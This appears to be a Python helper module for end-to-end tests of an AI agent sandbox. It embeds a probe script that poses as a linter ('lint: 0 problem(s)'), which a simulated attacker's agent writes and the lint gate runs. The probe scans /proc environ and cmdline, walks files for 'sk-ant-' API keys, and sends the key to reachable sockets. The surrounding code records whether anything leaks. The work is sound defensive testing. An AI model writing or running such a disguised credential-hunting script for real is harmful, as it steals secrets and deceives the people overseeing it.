"""Helpers for tests/e2e/test_attack_reach.py: the attacker's probe script, the host-side listeners
that notice whatever reaches them, and the searches for a secret afterwards.

`probe_script(cfg)` is the source of a `scripts/lint.py` an attacker's agent writes with the Write
tool; the lint gate (and the agent's own allowed `Bash(python3 scripts/lint.py:*)`) then runs it.
It tries everything in `cfg` and prints one line per attempt, `REACH <name> <ok|fail> <detail>`,
compact because the lint step's record keeps only the last 1500 characters of the output. It
prints what it got the way an attacker would (the bytes it read, the values it found), so a test
can see in the records whether anything came back. It always exits 0 (the gate passes).

Stdlib only: the probe runs under the sandbox's `python3` with nothing of the service.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import secrets
import shutil
import socket
import tempfile
import threading
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.fakes.anthropic_api import FakeAnthropicAPI, RecordedRequest, text
from tests.scratch import SCRATCH

REPO_ROOT = Path(__file__).resolve().parents[2]

_PROBE = r'''"""Lint (really: an attacker's probe, see tests/e2e/reach_kit.py)."""
import errno, hashlib, json, os, re, socket, sys

CFG = json.loads(__CFG__)


def say(name, status, detail=""):
    print("REACH", name, status, str(detail).replace("\n", "\\n")[:300], flush=True)


def why(exc):
    if isinstance(exc, socket.timeout):
        return "timeout"
    return errno.errorcode.get(getattr(exc, "errno", None) or 0, type(exc).__name__)


def family(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def tcp(name, host, port, request=None):
    s = socket.socket(family(host), socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
        got = b""
        if request:
            s.sendall(request.replace("__KEY__", os.environ.get("ANTHROPIC_API_KEY", "none")).encode())
            try:
                got = s.recv(200)
            except OSError:
                pass
        say(name, "ok", got[:120])
    except OSError as exc:
        say(name, "fail", why(exc))
    finally:
        s.close()


def udp(name, host, port):
    s = socket.socket(family(host), socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.connect((host, port))
        s.send(b"reach-probe")
        say(name, "ok", s.recv(100))
    except OSError as exc:
        say(name, "fail", why(exc))
    finally:
        s.close()


def unix(name, path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(path)
        s.sendall(b"reach-probe\n")
        say(name, "ok")
    except OSError as exc:
        say(name, "fail", why(exc))
    finally:
        s.close()


def listeners(name, table):
    """Every port listening (TCP) or bound (UDP) in this network namespace, from /proc/net: what a
    connect to any loopback port could reach (a brute-force scan finds the same, 10 s slower)."""
    ports = set()
    try:
        with open(f"/proc/net/{table}") as f:
            for line in f.read().splitlines()[1:]:
                fields = line.split()
                if table.startswith("udp") or fields[3] == "0A":  # 0A: LISTEN
                    ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    except OSError as exc:
        say(name, "fail", why(exc))
        return
    say(name, "ok" if ports else "fail", sorted(ports))


def read(name, path):
    try:
        if os.path.isdir(path):
            say(name, "ok", sorted(os.listdir(path)))
        else:
            with open(path, "rb") as f:
                say(name, "ok", f.read(200))
    except OSError as exc:
        say(name, "fail", why(exc))


def hunt(cfg):
    """Look for the model key everywhere a process in here can look: print every `sk-ant-` value
    found (an attacker would send them home) and where the one whose hash is given was found."""
    pattern = re.compile(rb"sk-ant-[A-Za-z0-9_-]{6,}")
    found = {}
    hits = []
    counts = {"env": 0, "proc": 0, "files": 0}

    def look(where, data):
        for m in pattern.finditer(data):
            value = m.group(0)
            found.setdefault(value.decode(), where)
            if hashlib.sha256(value).hexdigest() == cfg["key_sha256"]:
                hits.append(where)

    for k, v in os.environ.items():
        counts["env"] += 1
        look("env:" + k, v.encode())
        if k == "ANTHROPIC_API_KEY":
            say("env-model-key", "ok", v)  # what the CLI was given instead of the key
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as f:
                    look(f"/proc/{pid}/{part}", f.read())
                    counts["proc"] += 1
            except OSError:
                pass
    seen = set()

    def file(path):
        if path in seen or counts["files"] >= cfg.get("max_files", 20000):
            return
        seen.add(path)
        try:
            if os.path.islink(path) or not os.path.isfile(path) or os.path.getsize(path) > 2_000_000:
                return
            with open(path, "rb") as f:
                look(path, f.read())
                counts["files"] += 1
        except OSError:
            pass

    for root in cfg["walk"]:
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: None):
            for name in filenames:
                file(os.path.join(dirpath, name))
    for d in cfg["shallow"]:
        try:
            for name in os.listdir(d):
                file(os.path.join(d, name))
        except OSError:
            pass
    for path in cfg["files"]:
        file(path)
    say("hunt-counts", "ok", counts)
    say("hunt-sk-ant-values", "ok" if found else "fail", sorted(found)[:8])
    say("hunt-key", "ok" if hits else "fail", hits[:8])


for name, host, port, request in CFG.get("tcp", []):
    tcp(name, host, port, request)
for name, host, port in CFG.get("udp", []):
    udp(name, host, port)
for name, path in CFG.get("unix", []):
    unix(name, path)
for name, table in CFG.get("listeners", []):
    listeners(name, table)
for name, path in CFG.get("read", []):
    read(name, path)
if "hunt" in CFG:
    hunt(CFG["hunt"])
print("lint: 0 problem(s)")
sys.exit(0)
'''


def probe_script(cfg: dict[str, Any]) -> str:
    """The probe's source for `cfg` (see the module docstring). Never put a secret in `cfg`: the
    script is Write tool input, which every later model request carries."""
    return _PROBE.replace("__CFG__", repr(json.dumps(cfg)))


@dataclass(frozen=True)
class Reach:
    status: str  # "ok" | "fail"
    detail: str


def parse_reach(output: str) -> dict[str, Reach]:
    """`REACH <name> <status> <detail>` lines of a probe's output, by name (last one wins)."""
    out: dict[str, Reach] = {}
    for line in output.splitlines():
        parts = line.strip().split(" ", 3)
        if len(parts) >= 3 and parts[0] == "REACH":
            out[parts[1]] = Reach(parts[2], parts[3] if len(parts) > 3 else "")
    return out


def http_get(path: str) -> str:
    return f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"


def http_messages(path: str) -> str:
    """A Messages request carrying whatever key the probe holds (`__KEY__`: its ANTHROPIC_API_KEY)."""
    body = json.dumps({"model": "claude-reach", "max_tokens": 1,
                       "messages": [{"role": "user", "content": "x"}]})
    return (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\ncontent-type: application/json\r\n"
            f"x-api-key: __KEY__\r\ncontent-length: {len(body)}\r\nConnection: close\r\n\r\n{body}")


# ---------------------------------------------------------------------------- host side
@dataclass
class HostListeners:
    """Listeners on the host that record every connection / datagram they get, and answer, so a
    probe that reached one would see it (`ok`) and the test sees it here."""

    tcp4: int = 0
    tcp6: int | None = None
    udp4: int = 0
    unix_paths: dict[str, str] = field(default_factory=dict)
    accepted: list[str] = field(default_factory=list)
    _socks: list[socket.socket] = field(default_factory=list)
    _cleanup: list[Path] = field(default_factory=list)
    _dirs: list[Path] = field(default_factory=list)  # made by add_unix, removed by stop
    _stop: threading.Event = field(default_factory=threading.Event)

    def _serve_stream(self, name: str, sock: socket.socket) -> None:
        sock.settimeout(0.2)
        while not self._stop.is_set():
            try:
                conn, _ = sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.accepted.append(name)
            with contextlib.suppress(OSError):
                conn.sendall(b"HOST-LISTENER-ANSWER\n")
            conn.close()

    def _serve_udp(self, sock: socket.socket) -> None:
        sock.settimeout(0.2)
        while not self._stop.is_set():
            try:
                _, peer = sock.recvfrom(100)
            except TimeoutError:
                continue
            except OSError:
                return
            self.accepted.append("udp4")
            with contextlib.suppress(OSError):
                sock.sendto(b"HOST-UDP-ANSWER", peer)

    def _thread(self, target: Any, *args: Any) -> None:
        threading.Thread(target=target, args=args, daemon=True).start()

    def add_unix(self, name: str, path: Path) -> None:
        if not path.parent.exists():
            path.parent.mkdir(parents=True)
            self._dirs.append(path.parent)
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(str(path))
        s.listen(16)  # here, not in the thread: a connect right after this returns must work
        self._socks.append(s)
        self._cleanup.append(path)
        self.unix_paths[name] = str(path)
        self._thread(self._serve_stream, name, s)

    def start(self) -> HostListeners:
        s4 = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s4.bind(("127.0.0.1", 0))
        self.tcp4 = s4.getsockname()[1]
        s4.listen(16)
        self._socks.append(s4)
        self._thread(self._serve_stream, "tcp4", s4)
        if socket.has_ipv6:
            with contextlib.suppress(OSError):
                s6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
                s6.bind(("::1", 0))
                self.tcp6 = s6.getsockname()[1]
                s6.listen(16)
                self._socks.append(s6)
                self._thread(self._serve_stream, "tcp6", s6)
        u4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u4.bind(("127.0.0.1", 0))
        self.udp4 = u4.getsockname()[1]
        self._socks.append(u4)
        self._thread(self._serve_udp, u4)
        return self

    def stop(self) -> None:
        self._stop.set()
        for s in self._socks:
            s.close()
        for p in self._cleanup:
            with contextlib.suppress(OSError):
                p.unlink()
        for d in reversed(self._dirs):
            with contextlib.suppress(OSError):
                d.rmdir()

    def __enter__(self) -> HostListeners:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()


def can_connect_tcp(host: str, port: int) -> bool:
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET) as s:
        s.settimeout(3)
        try:
            s.connect((host, port))
            return True
        except OSError:
            return False


def can_connect_unix(path: str) -> bool:
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(3)
        try:
            s.connect(path)
            return True
        except OSError:
            return False


@contextlib.contextmanager
def unmasked_dir(prefix: str = "reach-") -> Iterator[Path]:
    """A scratch directory that the sandbox hides by no blanket mask of its own (not under /tmp,
    /run, /var/tmp or the HOME the tests give the service), so what a test puts there is hidden
    only by the defence under test (the WORKSPACE_DIR mask, the `.env` mask). Under the project's
    git-ignored `.test-workspaces` (as the sandbox's own tests); removed afterwards."""
    base = SCRATCH
    base.mkdir(exist_ok=True)
    path = Path(tempfile.mkdtemp(prefix=prefix, dir=base))
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


@contextlib.contextmanager
def process_holding(env: dict[str, str], *argv: str) -> Iterator[int]:
    """A host process whose environment holds `env` and whose command line ends in `argv` (a
    stand-in for the service, or a tool given a secret as an argument): the sandbox must not see
    its /proc entry (environ needs ptrace rights; cmdline is readable by anyone who sees it)."""
    import subprocess
    import sys

    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", *argv],
                            env={"PATH": os.environ.get("PATH", ""), **env})
    try:
        yield proc.pid
    finally:
        proc.kill()
        proc.wait()


def proxy_status(socket_path: Path, token: str) -> int:
    """HTTP status of a Messages request with `token` sent straight to the model proxy's socket."""
    body = json.dumps({"model": "claude-reach", "max_tokens": 1, "stream": False,
                       "messages": [{"role": "user", "content": "revocation check"}]}).encode()
    head = (f"POST /v1/messages HTTP/1.1\r\nHost: proxy\r\nx-api-key: {token}\r\n"
            f"content-type: application/json\r\ncontent-length: {len(body)}\r\nConnection: close\r\n\r\n")
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(10)
        s.connect(str(socket_path))
        s.sendall(head.encode() + body)
        data = b""
        while b"\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    return int(data.split(b" ", 2)[1])


# ---------------------------------------------------------------------------- looking for a secret
def secret_forms(value: str) -> dict[str, bytes]:
    """The raw value and its base64 (standard and URL-safe, unpadded) as bytes to search for."""
    raw = value.encode()
    return {"raw": raw, "base64": base64.b64encode(raw).rstrip(b"="),
            "base64url": base64.urlsafe_b64encode(raw).rstrip(b"=")}


def files_holding(root: Path, needles: dict[str, bytes], *, inflate: bool) -> dict[str, list[str]]:
    """relative path -> forms found, for every file under `root`; with `inflate`, git loose objects
    are searched decompressed too (a blob in an object store is zlib-compressed on disk)."""
    out: dict[str, list[str]] = {}
    for path in sorted(root.rglob("*")):
        if path.is_symlink() or not path.is_file():
            continue
        try:
            data = path.read_bytes()
        except OSError:
            continue
        blobs = [data]
        if inflate and "objects" in path.parts:
            with contextlib.suppress(zlib.error):
                blobs.append(zlib.decompress(data))
        hits = sorted({form for form, needle in needles.items() for b in blobs if needle in b})
        if hits:
            out[str(path.relative_to(root))] = hits
    return out


def new_key() -> str:
    """A model key unique to one test (never in any file, unlike conftest's API_KEY)."""
    return "sk-ant-reach-" + secrets.token_hex(16)


def sha256(value: str) -> str:
    return hashlib.sha256(value.encode()).hexdigest()


def answered_turn_usage(model: FakeAnthropicAPI, req: RecordedRequest) -> dict[str, Any]:
    """The usage the scripted model reported for `req` (same choice as FakeAnthropicAPI._choose,
    for a script without faults or a queue)."""
    for rule in model.rules:
        if rule.fits(req):
            return dict(rule.turn_for(req.step()).usage)
    return dict(text("OK").usage)
